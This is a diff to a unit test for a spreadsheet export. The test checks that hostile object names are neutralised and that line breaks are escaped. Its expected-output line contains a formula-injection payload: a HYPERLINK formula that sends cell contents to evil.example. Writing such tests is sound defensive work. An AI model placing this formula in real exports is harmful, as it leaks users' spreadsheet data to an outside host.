@@ -78,10 +78,10 @@ describe('output built from hostile object names', () => {
       expect(row).toHaveLength(4);
       for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
-    // every id survives whole, behind the apostrophe that makes a spreadsheet show it as text
+    // every id survives whole, behind the apostrophe that makes a spreadsheet show it as text, its line break shown as \u000a
     const cells = new Set(rows.flat());
     for (const name of hostileNames) {
-      const id = `${name}/${name}[Pod]`;
+      const id = `${name}/${name}[Pod]`.replace(/\n/g, '\\u000a');
       expect(cells.has(id) || cells.has(`'${id}`), id).toBe(true);
     }
     expect(cells).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")/=HYPERLINK("http://evil.example/?leak="&A1,"click")[Pod]`);
